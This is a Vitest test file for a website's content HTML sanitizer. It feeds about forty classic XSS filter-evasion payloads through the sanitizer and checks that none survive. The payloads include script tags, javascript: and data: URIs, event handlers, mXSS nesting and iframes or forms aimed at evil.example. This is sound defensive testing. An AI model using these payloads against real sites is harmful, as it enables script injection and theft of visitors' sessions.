import { describe, expect, it } from 'vitest';
import { sanitizeContentHtml } from '@/lib/content/sanitize';

const options = { localizePath: (path: string) => `/lv-en${path === '/' ? '' : path}`, siteOrigin: 'https://billme.eu' };
const clean = (html: string) => sanitizeContentHtml(html, options);

/** Classic XSS vectors (OWASP filter evasion cheat sheet and friends); none may survive. */
const corpus = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JAVASCRIPT:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<svg onload=alert(1)><circle/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=a><button>go</button></form>',
  '<body onload=alert(1)>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<p style="behavior:url(x.htc)">x</p>',
  '<p onclick="alert(1)" onmouseover="alert(1)">x</p>',
  '<details open ontoggle=alert(1)>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<base href="https://evil.example/">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a href="https://example.com" onfocus="alert(1)" autofocus>x</a>',
  '<img src="https://example.com/x.png" srcset="javascript:alert(1) 1x">',
  '"><script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<a href="//evil.example">x</a>',
  '<input type="image" src=x onerror=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<p>ok</p><!--<img src=x onerror=alert(1)>-->',
];

describe('content HTML sanitizer', () => {
  it.each(corpus)('neutralises %s', (input) => {
    const output = clean(input);
    expect(output).not.toMatch(/<script|<iframe|<object|<embed|<form|<input|<svg|<math|<style|<link|<meta|<base|<video/i);
    expect(output).not.toMatch(/\son[a-z]+\s*=/i);
    expect(output).not.toMatch(/javascript:|vbscript:|data:/i);
    expect(output).not.toMatch(/style=|srcset=/i);
    expect(output).not.toMatch(/href="\/\//);
  });

  it('keeps the allowed structure', () => {
    const html = '<h2>Title</h2><p>A <strong>b</strong> <em>c</em></p><ul><li>d</li></ul><table><thead><tr><th scope="col">h</th></tr></thead><tbody><tr><td>v</td></tr></tbody></table>';
    expect(clean(html)).toBe(html);
  });

  it('turns a content <h1> into <h2>, so the page keeps a single h1', () => {
    expect(clean('<h1>Big</h1>')).toBe('<h2>Big</h2>');
  });

  it("puts site links into the visitor's edition and leaves edition links alone", () => {
    expect(clean('<a href="/guides/pay">x</a>')).toBe('<a href="/lv-en/guides/pay">x</a>');
    expect(clean('<a href="/lv-ru/faq">x</a>')).toBe('<a href="/lv-ru/faq">x</a>');
    expect(clean('<a href="https://billme.eu/privacy-policy#rights">x</a>')).toBe('<a href="/lv-en/privacy-policy#rights">x</a>');
    expect(clean('<a href="#top">x</a>')).toBe('<a href="#top">x</a>');
  });

  it('gives external links rel and keeps mailto/tel', () => {
    expect(clean('<a href="https://www.dvi.gov.lv" target="_blank">x</a>')).toBe('<a href="https://www.dvi.gov.lv" rel="noopener noreferrer">x</a>');
    expect(clean('<a href="mailto:support@billme.eu">x</a>')).toBe('<a href="mailto:support@billme.eu">x</a>');
    expect(clean('<a href="tel:+37100000000">x</a>')).toBe('<a href="tel:+37100000000">x</a>');
  });

  it('keeps images with an alt and lazy loading, https or site paths only', () => {
    expect(clean('<img src="/content/blog/a.svg" alt="A">')).toBe('<img src="/content/blog/a.svg" alt="A" loading="lazy" />');
    expect(clean('<img src="http://insecure.example/a.png">')).not.toContain('http://');
  });

  it('escapes text, so markup in text stays text', () => {
    expect(clean('<p>1 &lt; 2 &amp; &lt;script&gt;</p>')).toBe('<p>1 &lt; 2 &amp; &lt;script&gt;</p>');
  });
});
